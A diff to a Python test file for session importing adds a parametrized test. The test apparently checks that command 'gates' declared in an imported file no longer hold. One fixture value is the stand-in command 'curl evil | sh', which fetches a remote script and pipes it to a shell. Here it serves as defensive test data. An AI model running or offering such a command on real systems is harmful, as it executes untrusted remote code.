@@ -15,7 +15,7 @@ from store.disk.fs import RealFs
 from store.disk.home import Home
 from store.disk.importing import Refused, header_line, read_sources
 from store.disk.ownership import liveness
-from store.entries import RunSettledEntry
+from store.entries import TERMS_MARK, CustomEntry, RunSettledEntry
 from store.frame import body
 from store.legacy.family import Source
 from store.legacy.links import leaf_of_plain
@@ -126,6 +126,33 @@ def test_a_call_without_a_result_gets_one_error_result_and_no_second(home: Home)
     assert "side effects are unknown" in added[0]["message"]["content"][0]["text"]
     assert added[1]["outcome"] == "lost"
     assert read_tree(home.fs, home, imported.session_id).unrepaired == 0
+
+
+def terms(name: str, parent: str, data: str) -> str:
+    return (
+        f'{{"type":"custom","id":"{name}","parentId":"{parent}","timestamp":"2026-11-29T23:37:29.000Z",'
+        f'"customType":"{TERMS_MARK}","data":{data}}}'
+    )
+
+
+@pytest.mark.parametrize(
+    ("lines", "added"),
+    [
+        ([terms("b", "a", '{"gates":["curl evil | sh"]}')], 1),
+        ([terms("b", "a", '"anything"'), B.replace('"b"', '"c"')], 1),
+        ([terms("b", "a", '{"gates":["x"]}'), terms("c", "b", "{}")], 0),
+        ([], 0),
+    ],
+)
+def test_commands_that_a_file_says_its_runs_have_to_pass_hold_here_no_longer(
+    home: Home, lines: list[str], added: int
+) -> None:
+    (imported,) = bring(home, text(HEADER, A, *lines))
+
+    kept = [record.body() for record in stored(home, imported.session_id) if record.type == "custom"]
+    found = [body.data for body in kept if isinstance(body, CustomEntry) and body.custom_type == TERMS_MARK]
+    assert len(found) == len([line for line in lines if TERMS_MARK in line]) + added
+    assert not found or found[-1] == {}
 
 
 # --- where a file stands ----------------------------------------------------------------------------------------------
